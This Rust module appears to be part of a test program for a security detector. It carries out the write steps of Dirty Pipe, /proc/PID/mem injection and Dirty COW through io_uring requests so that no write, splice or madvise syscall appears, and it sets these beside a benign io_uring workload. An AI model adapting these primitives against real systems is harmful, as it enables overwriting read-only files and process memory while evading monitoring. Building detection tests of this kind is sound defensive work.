//! The write halves of Dirty Pipe, /proc/PID/mem injection and Dirty COW made as io_uring
//! requests (IORING_OP_WRITE, WRITEV, SPLICE, TEE, MADVISE): no write, splice, tee or madvise
//! syscall is made for them. Plus the benign look-alike, io_uring as servers use it.

use std::{
    cell::RefCell,
    fs::OpenOptions,
    os::unix::{fs::FileExt, io::AsRawFd},
};

use io_uring::{IoUring, opcode, squeue, types};

use super::{
    TARGET_WORD, dirtycow_race, fail, map_readonly_private, open_self_mem, primed_pipe, reap,
    sleeping_child,
};

/// `off` of a request on a pipe: at the (stream's) current position.
const AT_CURRENT: u64 = u64::MAX;

/// A ring that runs one request at a time.
struct Ring(IoUring);

impl Ring {
    fn new() -> Ring {
        Ring(IoUring::new(4).unwrap_or_else(|_| fail("io_uring_setup")))
    }

    /// Submit `sqe`, wait for its completion and return its result (a negative errno).
    ///
    /// # Safety
    /// Every buffer `sqe` points to must stay valid until this returns.
    unsafe fn run(&mut self, sqe: &squeue::Entry) -> i32 {
        // SAFETY: the caller keeps the buffers alive; the request completes before returning.
        unsafe { self.0.submission().push(sqe) }.unwrap_or_else(|_| fail("queue"));
        self.0
            .submit_and_wait(1)
            .unwrap_or_else(|_| fail("io_uring_enter"));
        self.0
            .completion()
            .next()
            .map(|cqe| cqe.result())
            .unwrap_or_else(|| fail("no completion"))
    }

    fn write(&mut self, fd: impl Into<Target>, buf: &[u8], off: u64) -> i32 {
        let sqe = match fd.into() {
            Target::Fd(fd) => opcode::Write::new(types::Fd(fd), buf.as_ptr(), buf.len() as u32)
                .offset(off)
                .build(),
            Target::Fixed(i) => opcode::Write::new(types::Fixed(i), buf.as_ptr(), buf.len() as u32)
                .offset(off)
                .build(),
        };
        // SAFETY: `buf` outlives the request.
        unsafe { self.run(&sqe) }
    }

    fn writev(&mut self, fd: i32, buf: &[u8]) -> i32 {
        let iov = libc::iovec {
            iov_base: buf.as_ptr() as *mut libc::c_void,
            iov_len: buf.len(),
        };
        let sqe = opcode::Writev::new(types::Fd(fd), &iov, 1)
            .offset(AT_CURRENT)
            .build();
        // SAFETY: `iov` and `buf` outlive the request.
        unsafe { self.run(&sqe) }
    }

    /// Splice `len` bytes from `from` (at `off_in`, -1: a pipe) into `to` (at `off_out`).
    fn splice(&mut self, from: i32, off_in: i64, to: i32, off_out: i64, len: u32) -> i32 {
        let sqe = opcode::Splice::new(types::Fd(from), off_in, types::Fd(to), off_out, len).build();
        // SAFETY: no buffers.
        unsafe { self.run(&sqe) }
    }

    fn tee(&mut self, from: i32, to: i32, len: u32) -> i32 {
        let sqe = opcode::Tee::new(types::Fd(from), types::Fd(to), len).build();
        // SAFETY: no buffers.
        unsafe { self.run(&sqe) }
    }

    fn madvise(&mut self, addr: usize, len: usize, advice: i32) -> i32 {
        let sqe =
            opcode::Madvise::new(addr as *const libc::c_void, len as libc::off_t, advice).build();
        // SAFETY: madvise of our own mapping; no buffers.
        unsafe { self.run(&sqe) }
    }
}

/// What a write request names: a descriptor or a registered (fixed) file's index.
enum Target {
    Fd(i32),
    Fixed(u32),
}

impl From<i32> for Target {
    fn from(fd: i32) -> Target {
        Target::Fd(fd)
    }
}

fn expect(what: &str, got: i32, want: i32) {
    if got != want {
        eprintln!(
            "primitives: io_uring {what} = {got} ({}), expected {want}",
            std::io::Error::from_raw_os_error(-got.min(0))
        );
        std::process::exit(1);
    }
}

/// `iouring-dirtypipe FILE`: Dirty Pipe with its splice and its write as io_uring requests:
/// one byte of the read-only FILE spliced into a primed pipe (IORING_OP_SPLICE), the pipe
/// written (IORING_OP_WRITE); then its buffers tee'd into a second pipe (IORING_OP_TEE) and
/// that one written (IORING_OP_WRITEV). Two writes into the spliced page.
pub fn dirtypipe(path: &str) {
    let pipe = primed_pipe();
    let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
    let mut ring = Ring::new();
    expect(
        "splice",
        ring.splice(file.as_raw_fd(), 0, pipe[1], -1, 1),
        1,
    );
    expect("write", ring.write(pipe[1], b"X", AT_CURRENT), 1);
    let mut second = [0i32; 2];
    // SAFETY: a pipe of our own.
    if unsafe { libc::pipe(second.as_mut_ptr()) } != 0 {
        fail("pipe");
    }
    expect("tee", ring.tee(pipe[0], second[1], 2), 2);
    expect("writev", ring.writev(second[1], b"Y"), 1);
    println!("iouring-dirtypipe: spliced {path}, wrote the pipe and its tee'd copy");
}

/// `iouring-procmem`: 8 bytes written into a child's memory by IORING_OP_WRITE through
/// /proc/CHILD/mem registered as a fixed file, its descriptor closed before the write: only
/// the request's struct file names what is written.
pub fn procmem() {
    let child = sleeping_child();
    let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
    let mem = OpenOptions::new()
        .write(true)
        .open(format!("/proc/{child}/mem"))
        .unwrap_or_else(|_| fail("open child mem"));
    let mut ring = Ring::new();
    ring.0
        .submitter()
        .register_files(&[mem.as_raw_fd()])
        .unwrap_or_else(|_| fail("register files"));
    drop(mem);
    let n = ring.write(Target::Fixed(0), &0x4646u64.to_ne_bytes(), addr);
    println!("child {child}: io_uring write through a fixed file into /proc/{child}/mem: {n}");
    reap(child);
    expect("write", n, 8);
}

/// `iouring-dirtycow FILE`: Dirty COW with its discards as io_uring requests: map FILE
/// read-only and private; one thread discards the pages with IORING_OP_MADVISE
/// (MADV_DONTNEED), another forces writes into the mapping through /proc/self/mem.
pub fn dirtycow(path: &str) {
    let (addr, len) = map_readonly_private(path);
    let mem = open_self_mem();
    let ring = RefCell::new(Ring::new());
    dirtycow_race(
        "iouring-dirtycow",
        addr,
        move || {
            let advised = ring.borrow_mut().madvise(addr, len, libc::MADV_DONTNEED);
            expect("madvise", advised, 0);
        },
        move || {
            let _ = mem.write_at(b"m00", addr as u64);
        },
    );
}

/// `iouring-benign`: io_uring the way a web server or fio uses it. Writes and vectored writes
/// to a regular file; a read-only file spliced into a pipe and the pipe spliced on into a file
/// (zero-copy copying: the pipe is never written); a pipe never fed from a read-only file
/// written, tee'd and written again; a word of its own writable memory written through
/// /proc/self/mem (a JIT patching itself); its own anonymous writable memory discarded.
pub fn benign() {
    let mut ring = Ring::new();
    let out = OpenOptions::new()
        .read(true)
        .write(true)
        .create(true)
        .truncate(true)
        .open("/tmp/iouring-benign-out")
        .unwrap_or_else(|_| fail("open output"));
    std::fs::write("/tmp/iouring-benign-src", b"static content")
        .unwrap_or_else(|_| fail("write source"));
    let src = std::fs::File::open("/tmp/iouring-benign-src").unwrap_or_else(|_| fail("open src"));
    let word = 0x4747u64.to_ne_bytes();
    for i in 0..200u64 {
        expect("write file", ring.write(out.as_raw_fd(), &word, i * 8), 8);
        expect("writev file", ring.writev(out.as_raw_fd(), &word), 8);
    }
    let pipe = primed_pipe();
    let mut back = [0u8; 16];
    for _ in 0..200 {
        expect(
            "splice in",
            ring.splice(src.as_raw_fd(), 0, pipe[1], -1, 6),
            6,
        );
        expect(
            "splice out",
            ring.splice(pipe[0], -1, out.as_raw_fd(), 0, 6),
            6,
        );
    }
    let plain = primed_pipe();
    let mut copy = [0i32; 2];
    // SAFETY: a pipe of our own.
    if unsafe { libc::pipe(copy.as_mut_ptr()) } != 0 {
        fail("pipe");
    }
    for _ in 0..200 {
        expect("write pipe", ring.write(plain[1], &word, AT_CURRENT), 8);
        expect("tee", ring.tee(plain[0], copy[1], 8), 8);
        expect("writev copy", ring.writev(copy[1], &word), 8);
        // SAFETY: draining our own pipes into our own buffer.
        unsafe {
            libc::read(plain[0], back.as_mut_ptr().cast(), 8);
            libc::read(copy[0], back.as_mut_ptr().cast(), 16);
        }
    }
    // A client of the application's own Unix socket (a database's, say), connected by io_uring.
    let _ = std::fs::remove_file("/tmp/app.sock");
    let listener =
        std::os::unix::net::UnixListener::bind("/tmp/app.sock").unwrap_or_else(|_| fail("bind"));
    for _ in 0..20 {
        connect("/tmp/app.sock");
    }
    drop(listener);
    let mem = open_self_mem();
    let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
    expect(
        "write own memory",
        ring.write(mem.as_raw_fd(), &word, addr),
        8,
    );
    let len = 16 * 4096;
    // SAFETY: a fresh private anonymous mapping of our own.
    let anon = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
            -1,
            0,
        )
    };
    if anon == libc::MAP_FAILED {
        fail("mmap");
    }
    for _ in 0..200 {
        expect(
            "madvise",
            ring.madvise(anon as usize, len, libc::MADV_DONTNEED),
            0,
        );
    }
    println!("iouring-benign: done");
}

/// connect(2) to the Unix socket at `path` as an IORING_OP_CONNECT request: no connect
/// syscall is made.
pub fn connect(path: &str) {
    // SAFETY: a plain socket call.
    let fd = unsafe { libc::socket(libc::AF_UNIX, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0) };
    if fd < 0 {
        fail("socket");
    }
    // SAFETY: all-zero is a valid sockaddr_un.
    let mut addr: libc::sockaddr_un = unsafe { std::mem::zeroed() };
    addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
    if path.len() >= addr.sun_path.len() {
        fail("path too long");
    }
    for (d, b) in addr.sun_path.iter_mut().zip(path.bytes()) {
        *d = b as libc::c_char;
    }
    let len = std::mem::size_of::<libc::sockaddr_un>() as libc::socklen_t;
    let sqe = opcode::Connect::new(
        types::Fd(fd),
        (&addr as *const libc::sockaddr_un).cast(),
        len,
    )
    .build();
    let mut ring = Ring::new();
    // SAFETY: `addr` outlives the request.
    let res = unsafe { ring.run(&sqe) };
    if res != 0 {
        eprintln!(
            "primitives: io_uring connect {path}: {}",
            std::io::Error::from_raw_os_error(-res)
        );
        std::process::exit(1);
    }
    // SAFETY: our own descriptor.
    unsafe { libc::close(fd) };
    println!("iouring-connect: connected to {path}");
}
